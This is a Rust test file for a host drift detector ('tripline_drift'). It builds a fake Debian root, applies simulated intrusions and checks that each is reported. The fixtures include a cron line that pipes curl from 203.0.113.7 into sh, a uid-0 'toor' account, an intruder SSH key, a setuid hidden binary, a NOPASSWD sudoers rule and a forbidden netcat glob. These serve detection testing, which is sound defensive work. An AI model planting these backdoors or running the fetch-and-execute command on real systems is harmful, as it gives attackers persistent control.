//! Learn a contract on a prepared root tree (`--root`), mutate the tree the way intruders and
//! hand edits do, and check each finding and its severity. A clean tree reports nothing.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use tripline_drift::collect::{collect, Options};
use tripline_drift::compare::{compare, Change, Finding, Severity};
use tripline_drift::learn::learn;
use tripline_drift::Contract;

const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl deploy@ci";
const INTRUDER: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ eve@evil";

fn write(root: &Path, path: &str, text: &str) {
    let p = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn chmod(root: &Path, path: &str, mode: u32) {
    let p = root.join(path.trim_start_matches('/'));
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// A small Debian-like root.
fn prepare(root: &Path) {
    write(root, "/etc/hostname", "web-1\n");
    write(
        root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\napp:x:1000:1000:app:/home/app:/bin/bash\n",
    );
    write(
        root,
        "/etc/group",
        "root:x:0:\nsudo:x:27:app\napp:x:1000:\n",
    );
    write(
        root,
        "/etc/sudoers",
        "# comment\nDefaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo   ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
    );
    write(
        root,
        "/etc/ssh/sshd_config",
        "PermitRootLogin no\nPasswordAuthentication no\n",
    );
    write(root, "/root/.ssh/authorized_keys", &format!("{KEY}\n"));
    write(
        root,
        "/var/lib/dpkg/status",
        "Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:9.2p1-2\n\nPackage: curl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 7.88.1-10\n\nPackage: gone\nStatus: deinstall ok config-files\nVersion: 1\n",
    );
    write(
        root,
        "/etc/crontab",
        "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    );
    write(
        root,
        "/etc/sysctl.conf",
        "net.ipv4.ip_forward = 0\nkernel.randomize_va_space=2\n",
    );
    write(root, "/etc/modules", "# modules\nloop\n");
    write(root, "/etc/logrotate.conf", "weekly\nrotate 4\n");
    write(root, "/usr/bin/tool", "#!/bin/sh\necho tool\n");
    chmod(root, "/usr/bin/tool", 0o755);
    write(root, "/opt/models/llm.gguf", "GGUF weights v1");
    write(
        root,
        "/lib/systemd/system/ssh.service",
        "[Service]\nExecStart=/usr/sbin/sshd\n",
    );
    let wants = root.join("etc/systemd/system/multi-user.target.wants");
    std::fs::create_dir_all(&wants).unwrap();
    std::os::unix::fs::symlink("/lib/systemd/system/ssh.service", wants.join("ssh.service"))
        .unwrap();
}

fn options(root: &Path) -> Options {
    Options {
        root: root.to_path_buf(),
        include: vec![
            "/etc/**".into(),
            "/usr/bin/*".into(),
            "/opt/models/**".into(),
        ],
        ..Options::default()
    }
}

/// `section change item severity` per finding, in report order.
fn summary(f: &[Finding]) -> Vec<String> {
    f.iter()
        .map(|x| format!("{} {:?} {} {:?}", x.section, x.change, x.item, x.severity))
        .collect()
}

fn find<'a>(f: &'a [Finding], section: &str, item: &str) -> &'a Finding {
    f.iter()
        .find(|x| x.section == section && x.item.contains(item))
        .unwrap_or_else(|| panic!("no {section} finding for {item}: {f:#?}"))
}

#[test]
fn learned_contract_is_clean_then_every_mutation_is_found() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    prepare(root);
    let opts = options(root);
    let snap = collect(&opts);
    assert!(snap.errors.is_empty(), "{:?}", snap.errors);
    assert_eq!(
        snap.packages.len(),
        2,
        "deinstalled packages are not installed"
    );
    assert_eq!(snap.authorized_keys.len(), 1);
    assert!(snap.units.contains("ssh.service"));
    assert_eq!(
        snap.sysctls.get("net.ipv4.ip_forward").map(String::as_str),
        Some("0")
    );

    // The learned contract survives a YAML round trip and accepts the tree it came from.
    let contract = learn(&snap, "web-1", &opts.include);
    let yaml = contract.to_yaml();
    let contract = Contract::from_yaml("c.yaml", &yaml).unwrap();
    assert_eq!(compare(&contract, &collect(&opts)), vec![]);
    // Stable: learning again gives the same text.
    assert_eq!(
        learn(&collect(&opts), "web-1", &opts.include).to_yaml(),
        yaml
    );

    // Intrusions and hand edits.
    write(
        root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\napp:x:1000:1000:app:/home/app:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nbackup2:x:1001:1001::/home/backup2:/bin/bash\n",
    );
    write(
        root,
        "/root/.ssh/authorized_keys",
        &format!("{KEY}\n{INTRUDER}\nssh-ed25519 not*base64 hidden@x\n"),
    );
    std::fs::copy(root.join("usr/bin/tool"), root.join("usr/bin/.hidden")).unwrap();
    chmod(root, "/usr/bin/.hidden", 0o4755);
    write(
        root,
        "/etc/ssh/sshd_config",
        "PermitRootLogin yes\nPasswordAuthentication no\n",
    );
    write(root, "/etc/logrotate.conf", "weekly\nrotate 8\n");
    write(root, "/opt/models/llm.gguf", "GGUF weights v2 (backdoored)");
    write(
        root,
        "/etc/sudoers.d/90-app",
        "app ALL=(ALL) NOPASSWD: ALL\n",
    );
    write(
        root,
        "/etc/crontab",
        "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n* * * * * root curl -s http://203.0.113.7/x | sh\n",
    );
    write(
        root,
        "/etc/sysctl.conf",
        "net.ipv4.ip_forward = 1\nkernel.randomize_va_space=2\n",
    );
    std::os::unix::fs::symlink(
        "/lib/systemd/system/ssh.service",
        root.join("etc/systemd/system/multi-user.target.wants/backdoor.service"),
    )
    .unwrap();

    let f = compare(&contract, &collect(&opts));
    let expect = [
        ("users", "toor", Change::Added, Severity::Critical),
        ("users", "backup2", Change::Added, Severity::High),
        (
            "authorizedKeys",
            "root SHA256:",
            Change::Added,
            Severity::High,
        ),
        ("files", "/usr/bin/.hidden", Change::Added, Severity::High),
        (
            "files",
            "/etc/ssh/sshd_config",
            Change::Changed,
            Severity::High,
        ),
        (
            "files",
            "/etc/logrotate.conf",
            Change::Changed,
            Severity::Low,
        ),
        (
            "files",
            "/opt/models/llm.gguf",
            Change::Changed,
            Severity::High,
        ),
        (
            "files",
            "/etc/sudoers.d/90-app",
            Change::Added,
            Severity::High,
        ),
        ("sudoers", "NOPASSWD", Change::Added, Severity::High),
        ("cron", "203.0.113.7", Change::Added, Severity::High),
        (
            "sysctls",
            "net.ipv4.ip_forward",
            Change::Changed,
            Severity::High,
        ),
        ("units", "backdoor.service", Change::Added, Severity::Medium),
    ];
    for (section, item, change, severity) in expect {
        let x = find(&f, section, item);
        assert_eq!((x.change, x.severity), (change, severity), "{x:#?}");
        assert!(!x.evidence.is_empty() && !x.hint.is_empty());
    }
    let intruder = find(&f, "authorizedKeys", "root");
    assert!(
        intruder.evidence.iter().any(|e| e.contains("eve@evil")),
        "{intruder:?}"
    );
    let hidden = find(&f, "files", "/usr/bin/.hidden");
    assert!(hidden
        .evidence
        .iter()
        .any(|e| e.contains("4755") && e.contains("file")));
    // The new uid-0 account shares /root, so root's keys (both) now also let `toor` in.
    assert_eq!(
        f.iter()
            .filter(|x| x.section == "authorizedKeys" && x.item.starts_with("toor SHA256:"))
            .count(),
        2
    );
    // Nothing else: each mutation is reported once per section it touches. Changing
    // /etc/passwd, /etc/crontab and /etc/sysctl.conf also changes those files; the new unit
    // symlink and the new /etc/sudoers.d directory are new files under /etc.
    for (section, item) in [
        ("files", "/etc/sudoers.d"),
        ("files", "/etc/passwd"),
        ("files", "/etc/crontab"),
        ("files", "/etc/sysctl.conf"),
        ("files", "backdoor.service"),
    ] {
        find(&f, section, item);
    }
    // A line sshd cannot parse is no key, but it is reported (low), for both accounts.
    let garbage: Vec<_> = f
        .iter()
        .filter(|x| {
            x.evidence
                .iter()
                .any(|e| e.starts_with("unparseable line:"))
        })
        .collect();
    assert_eq!(garbage.len(), 2, "{garbage:#?}");
    for g in &garbage {
        assert_eq!((g.change, g.severity), (Change::Added, Severity::Low));
        assert!(
            g.item.ends_with("/root/.ssh/authorized_keys:3"),
            "{}",
            g.item
        );
        assert!(g.evidence[0].contains("not*base64"));
    }
    let sections: Vec<(&str, &str)> = f.iter().map(|x| (x.section, x.item.as_str())).collect();
    assert_eq!(f.len(), expect.len() + 2 + 5 + 2, "{sections:#?}");
    // Worst first.
    assert_eq!(f[0].severity, Severity::Critical);
}

#[test]
fn forbidden_and_missing_entries() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    prepare(root);
    let yaml = r#"
apiVersion: tripline.dev/v1
kind: RuntimeContract
metadata: {name: web-1}
spec:
  watch: ["/usr/bin/*"]
  files:
    - path: /usr/bin/*
      state: allowed
    - path: /usr/bin/nc*
      state: forbidden
    - path: /usr/bin/sshd-keygen
  packages:
    - {name: openssh-server}
    - {name: curl, state: forbidden}
    - {name: auditd}
"#;
    let c = Contract::from_yaml("c.yaml", yaml).unwrap();
    write(root, "/usr/bin/ncat", "binary");
    let f = compare(&c, &collect(&options(root)));
    assert_eq!(find(&f, "files", "/usr/bin/ncat").change, Change::Forbidden);
    assert_eq!(
        find(&f, "files", "/usr/bin/sshd-keygen").change,
        Change::Missing
    );
    assert_eq!(find(&f, "packages", "curl").change, Change::Forbidden);
    assert_eq!(find(&f, "packages", "auditd").change, Change::Missing);
    // /usr/bin/tool is allowed by the glob; openssh-server is present.
    assert!(!f
        .iter()
        .any(|x| x.item.contains("tool") || x.item.contains("openssh")));
    assert_eq!(f.len(), 4, "{f:#?}");
}

#[test]
fn malformed_contracts_name_file_line_and_path() {
    let bad_mode = "apiVersion: tripline.dev/v1\nkind: RuntimeContract\nmetadata: {name: x}\nspec:\n  files:\n    - path: /etc/passwd\n      mode: rw-r--r--\n";
    let e = Contract::from_yaml("c.yaml", bad_mode).unwrap_err();
    assert_eq!((e.line, e.path.as_str()), (7, "spec.files[0].mode"), "{e}");
    let unknown = "apiVersion: tripline.dev/v1\nkind: RuntimeContract\nmetadata: {name: x}\nspec:\n  users:\n    - name: root\n      uid: 0\n      password: hunter2\n";
    let e = Contract::from_yaml("c.yaml", unknown).unwrap_err();
    assert_eq!(
        (e.line, e.path.as_str()),
        (8, "spec.users[0].password"),
        "{e}"
    );
    assert!(e.message.contains("unknown field `password`"), "{e}");
    let wrong_type = "apiVersion: tripline.dev/v1\nkind: RuntimeContract\nmetadata: {name: x}\nspec:\n  listeners:\n    - {protocol: tcp, port: http}\n";
    let e = Contract::from_yaml("c.yaml", wrong_type).unwrap_err();
    assert_eq!(e.path, "spec.listeners[0].port", "{e}");
    assert!(
        e.to_string()
            .starts_with("c.yaml:6: spec.listeners[0].port: "),
        "{e}"
    );
    let version =
        "apiVersion: tripline.dev/v2\nkind: RuntimeContract\nmetadata: {name: x}\nspec: {}\n";
    let e = Contract::from_yaml("c.yaml", version).unwrap_err();
    assert_eq!((e.line, e.path.as_str()), (1, "apiVersion"), "{e}");
}

#[test]
fn published_json_schema_is_current() {
    let file = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../schema/runtime-contract.v1.json"
    );
    let published: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
    assert_eq!(
        published,
        tripline_drift::contract::json_schema(),
        "regenerate with: tripline contract schema > schema/runtime-contract.v1.json"
    );
    assert_eq!(published["title"], "Contract");
    assert!(published["definitions"]["FileRule"]["properties"]["sha256"].is_object());
}

/// Python and npm packages in an image: learned with their versions (pip names normalised),
/// then a new package, an upgrade and a removal are each found.
#[test]
fn python_and_npm_packages() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    prepare(root);
    let site = "/usr/local/lib/python3.11/site-packages";
    write(
        root,
        &format!("{site}/PyYAML-6.0.1.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: PyYAML\nVersion: 6.0.1\nSummary: YAML parser\n\nName: not-a-header\n",
    );
    write(
        root,
        &format!("{site}/typing_extensions-4.9.0.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: typing_extensions\nVersion: 4.9.0\n",
    );
    write(
        root,
        "/opt/app/venv/lib/python3.11/site-packages/requests-2.31.0.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\n",
    );
    write(
        root,
        "/usr/lib/node_modules/npm/package.json",
        r#"{"name": "npm", "version": "9.2.0", "dependencies": {}}"#,
    );
    write(
        root,
        "/opt/web/node_modules/@acme/ui/package.json",
        r#"{"name": "@acme/ui", "version": "1.4.0"}"#,
    );
    let opts = options(root);
    let snap = collect(&opts);
    assert_eq!(
        snap.python_packages
            .iter()
            .map(|(n, v)| format!("{n} {v}"))
            .collect::<Vec<_>>(),
        ["pyyaml 6.0.1", "requests 2.31.0", "typing-extensions 4.9.0"]
    );
    assert_eq!(
        snap.npm_packages
            .iter()
            .map(|(n, v)| format!("{n} {v}"))
            .collect::<Vec<_>>(),
        ["@acme/ui 1.4.0", "npm 9.2.0"]
    );
    let c = learn(&snap, "web-1", &opts.include);
    assert!(compare(&c, &snap).is_empty());

    // A dropped-in package, an upgrade, a removal.
    write(
        root,
        &format!("{site}/evil_helper-0.1.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: evil_helper\nVersion: 0.1\n",
    );
    std::fs::remove_dir_all(root.join(&format!("{site}/PyYAML-6.0.1.dist-info")[1..])).unwrap();
    write(
        root,
        &format!("{site}/PyYAML-6.0.2.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: PyYAML\nVersion: 6.0.2\n",
    );
    std::fs::remove_dir_all(root.join("opt/web/node_modules/@acme")).unwrap();
    let f = compare(&c, &collect(&opts));
    let got = summary(&f);
    assert_eq!(
        got,
        [
            "npmPackages Missing @acme/ui Medium",
            "pythonPackages Added evil-helper Medium",
            "pythonPackages Changed pyyaml Low",
        ]
    );
}

/// Container images by digest, read from the runtimes' state in the root: learned, then a
/// different image behind the same tag and an undeclared image are high.
#[test]
fn container_images_by_digest() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    prepare(root);
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../syscall/tests/runtimes");
    let copy = |rel: &str| {
        let to = root.join(rel);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(fixtures.join(rel), to).unwrap();
    };
    let docker = "var/lib/docker/containers/3f4e1b2a9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f";
    copy(&format!("{docker}/config.v2.json"));
    copy(&format!("{docker}/hostconfig.json"));
    let opts = options(root);
    let snap = collect(&opts);
    assert_eq!(
        snap.images.get("nginx:1.25.3").map(String::as_str),
        Some("sha256:a8758716bb6aa4d90071160d27028fe4eaee7ce8166221a97d30440c8eac2be6")
    );
    let c = learn(&snap, "web-1", &opts.include);
    assert!(compare(&c, &snap).is_empty());

    // The tag now points at another image, and a CRI-O container runs an undeclared one.
    let cfg = root.join(docker).join("config.v2.json");
    let text = std::fs::read_to_string(&cfg).unwrap().replace(
        "sha256:a8758716bb6aa4d90071160d27028fe4eaee7ce8166221a97d30440c8eac2be6",
        "sha256:badbadbadbadbadbadbadbadbadbadbadbadbadbadbadbadbadbadbadbadbad0",
    );
    std::fs::write(&cfg, text).unwrap();
    copy("run/containers/storage/overlay-containers/0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0/userdata/config.json");
    let f = compare(&c, &collect(&opts));
    let got = summary(&f);
    assert_eq!(
        got,
        [
            "images Changed nginx:1.25.3 High",
            "images Added quay.io/prometheus/prometheus:v2.48.0 High",
        ]
    );
    let changed = find(&f, "images", "nginx:1.25.3");
    assert!(
        changed.evidence[0].starts_with("digest: declared sha256:a875"),
        "{changed:?}"
    );
}
